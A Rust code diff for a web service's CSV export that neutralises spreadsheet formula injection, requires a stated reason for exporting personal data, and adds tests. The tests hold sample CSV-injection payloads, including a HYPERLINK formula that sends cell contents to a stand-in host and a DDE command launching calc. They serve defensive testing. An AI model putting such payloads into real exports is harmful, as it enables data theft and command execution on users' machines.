@@ -15,30 +15,102 @@ pub fn jst(t: DateTime<Utc>) -> String {
         .to_string()
 }
 
-/// Records as CSV bytes, CRLF-terminated as Excel expects.
-pub fn lines(rows: &[Vec<String>]) -> Vec<u8> {
-    let mut w = csv::WriterBuilder::new()
-        .terminator(csv::Terminator::CRLF)
-        .from_writer(Vec::new());
-    for r in rows {
-        let _ = w.write_record(r);
+/// One CSV cell. Text is anything a person or another system wrote (names,
+/// titles, login ids, user agents, free text): Excel would run a text that
+/// starts like a formula, so the writer neutralises it. Numbers are values
+/// this program computed (counts, ids, durations) and stay numbers.
+#[derive(Clone, Debug, PartialEq)]
+pub enum Cell {
+    Text(String),
+    Number(String),
+}
+
+impl Cell {
+    pub fn number(n: impl Into<f64> + std::fmt::Display) -> Self {
+        Self::Number(n.to_string())
     }
-    w.into_inner().unwrap_or_default()
+
+    /// A count or id of ours (i64 has no lossless `Into<f64>`).
+    pub fn int(n: i64) -> Self {
+        Self::Number(n.to_string())
+    }
+}
+
+impl From<String> for Cell {
+    fn from(s: String) -> Self {
+        Self::Text(s)
+    }
+}
+
+impl From<&str> for Cell {
+    fn from(s: &str) -> Self {
+        Self::Text(s.to_string())
+    }
+}
+
+/// A row of cells: `csv_row![name, title, Cell::int(3)]` (text unless said otherwise).
+#[macro_export]
+macro_rules! csv_row {
+    ($($cell:expr),* $(,)?) => { vec![$($crate::csv::Cell::from($cell)),*] };
+}
+
+/// Characters that make Excel (and LibreOffice, Google Sheets) read a cell as
+/// a formula or a DDE command (OWASP "CSV injection"), with their full-width
+/// forms, which Japanese input methods produce and Excel also accepts.
+const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+
+/// The text as Excel must show it: a cell that would start a formula (after
+/// any leading spaces, which Excel skips) gets a leading `'`, so it is shown
+/// as the text it is and never evaluated.
+pub fn neutralise(text: &str) -> std::borrow::Cow<'_, str> {
+    let first = text.trim_start_matches([' ', '\u{3000}']).chars().next();
+    if first.is_some_and(|c| FORMULA_STARTS.contains(&c)) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+/// Records as CSV bytes, CRLF-terminated as Excel expects. Text cells are
+/// neutralised, and quoted when neutralised or when they hold a separator,
+/// a quote or a line break; numbers are written bare.
+pub fn lines(rows: &[Vec<Cell>]) -> Vec<u8> {
+    let mut out = Vec::new();
+    for r in rows {
+        for (i, cell) in r.iter().enumerate() {
+            if i > 0 {
+                out.push(b',');
+            }
+            match cell {
+                Cell::Number(n) => out.extend_from_slice(n.as_bytes()),
+                Cell::Text(t) => {
+                    let safe = neutralise(t);
+                    let quote = matches!(safe, std::borrow::Cow::Owned(_))
+                        || safe.contains([',', '"', '\r', '\n']);
+                    if quote {
+                        out.push(b'"');
+                        out.extend_from_slice(safe.replace('"', "\"\"").as_bytes());
+                        out.push(b'"');
+                    } else {
+                        out.extend_from_slice(safe.as_bytes());
+                    }
+                }
+            }
+        }
+        out.extend_from_slice(b"\r\n");
+    }
+    out
 }
 
 /// A streamed download: BOM and header row first, then each page of rows.
 /// `total` (when known) goes out as `X-Total-Count` so a client can show progress.
 pub fn download<S>(file_stem: &str, header_row: &[&str], pages: S, total: Option<u64>) -> Response
 where
-    S: Stream<Item = anyhow::Result<Vec<Vec<String>>>> + Send + 'static,
+    S: Stream<Item = anyhow::Result<Vec<Vec<Cell>>>> + Send + 'static,
 {
-    let head = Bytes::from(
-        [
-            BOM.as_bytes(),
-            &lines(&[header_row.iter().map(|s| s.to_string()).collect()]),
-        ]
-        .concat(),
-    );
+    // Headers can be staff's own words (attribute names): text like any other.
+    let header: Vec<Cell> = header_row.iter().map(|h| Cell::from(*h)).collect();
+    let head = Bytes::from([BOM.as_bytes(), &lines(&[header])].concat());
     let body = futures::stream::once(async move { Ok::<Bytes, std::io::Error>(head) })
         .chain(pages.map(|page| match page {
             Ok(rows) => Ok(Bytes::from(lines(&rows))),
@@ -72,6 +144,20 @@ where
     res
 }
 
+/// Why personal data is exported, as the staff member stated it (kept in
+/// the audit row): required, at most 200 characters; otherwise the 400 to send.
+pub fn stated_reason(given: Option<&str>) -> Result<String, Response> {
+    let reason = given.map(str::trim).unwrap_or("");
+    if reason.is_empty() || reason.chars().count() > 200 {
+        return Err((
+            axum::http::StatusCode::BAD_REQUEST,
+            "出力の理由（200文字以内）を入力してください",
+        )
+            .into_response());
+    }
+    Ok(reason.to_string())
+}
+
 /// The caller of a request outside GraphQL (downloads, uploads), if it holds
 /// one of `permissions`; otherwise the response to send (401 without a
 /// session, 403 without the permission).
@@ -94,4 +180,45 @@ pub async fn authorize(
         return Err((status, e.to_string()).into_response());
     }
     Ok(caller)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn one(cell: Cell) -> String {
+        String::from_utf8(lines(&[vec![cell]])).unwrap()
+    }
+
+    #[test]
+    fn text_that_excel_would_run_is_shown_as_text() {
+        for evil in [
+            "=HYPERLINK(\"https://evil.example/c?\"&B2&C2,\"詳細\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+1",
+            "-2+3",
+            "\t=1",
+            "\r=1",
+            "  =1+1",
+            "\u{3000}＝1+1",
+            "＠SUM(A1)",
+        ] {
+            let out = one(Cell::from(evil));
+            assert!(out.starts_with("\"'"), "{evil:?} → {out:?}");
+            assert!(out.ends_with("\"\r\n"), "{out:?}");
+        }
+    }
+
+    #[test]
+    fn ordinary_text_numbers_and_dates_are_unchanged() {
+        assert_eq!(one(Cell::from("埼玉 花子")), "埼玉 花子\r\n");
+        assert_eq!(
+            one(Cell::from("2026-12-01 09:00:00")),
+            "2026-12-01 09:00:00\r\n"
+        );
+        assert_eq!(one(Cell::from("a,b \"c\"")), "\"a,b \"\"c\"\"\"\r\n");
+        assert_eq!(one(Cell::int(-3)), "-3\r\n");
+        assert_eq!(one(Cell::number(1.5)), "1.5\r\n");
+        assert_eq!(one(Cell::from("")), "\r\n");
+    }
 }
